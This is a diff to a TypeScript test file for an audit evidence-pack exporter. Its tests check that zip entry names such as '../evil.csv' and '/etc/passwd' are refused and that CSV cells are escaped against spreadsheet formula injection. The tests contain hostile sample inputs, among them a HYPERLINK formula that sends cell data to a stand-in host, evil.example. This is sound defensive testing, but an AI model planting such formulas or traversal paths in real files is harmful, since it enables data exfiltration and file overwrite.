@@ -5,7 +5,7 @@ import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
-import { buildEvidencePack, canonicalJson, evidencePackZip, zipFiles } from '../../audit';
+import { buildEvidencePack, canonicalJson, evidencePackZip, toCsv, zipFiles } from '../../audit';
 
 const run = promisify(execFile);
 
@@ -62,5 +62,21 @@ describe('evidence packs as zip files', () => {
 
   test('an entry name that could leave the folder is refused', () => {
     for (const name of ['../evil.csv', '/etc/passwd', 'a/../../b', 'a\\b', '', 'a//b', 'C:x']) expect(() => zipFiles({ [name]: 'x' })).toThrow(/plain relative path/);
+  });
+
+  test('request data a hostile agent wrote cannot run as a formula when an auditor opens a CSV of the pack in a spreadsheet', () => {
+    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"open")';
+    const pack = buildEvidencePack({
+      from: new Date('2026-01-01T00:00:00Z'), to: new Date('2026-01-02T00:00:00Z'), items: [],
+      unreadable: [{ requestId: 'req_bbbbbbbbbbbbbbbbbbbb', workflowStatus: 'RUNNING', startTime: new Date('2026-01-01T10:00:00Z'), taskQueue: '+q', requester: formula, target: '@SUM(1)', state: '-1+2', approver: '\t=1', searchAttributes: {}, problem: '\r=1' }],
+    });
+    const cells = (csv: string) => csv.trim().split('\r\n').slice(1).join(',');
+    for (const name of ['requests.csv', 'unreadable.csv', 'archives.csv']) {
+      // Every cell starts after a comma or a line start; none of them may start with = + - @ or a tab/CR (each is quoted with a leading ').
+      const text = cells(pack.files[name]!);
+      expect({ name, formula: /(^|,)"?[=+\-@\t\r]/.test(text) }).toEqual({ name, formula: false });
+    }
+    expect(pack.files['unreadable.csv']).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`);
+    expect(toCsv(['a', 'b'], [['=1+1', ' =1'], ['plain', -3]])).toBe("a,b\r\n'=1+1, =1\r\nplain,'-3\r\n");
   });
 });
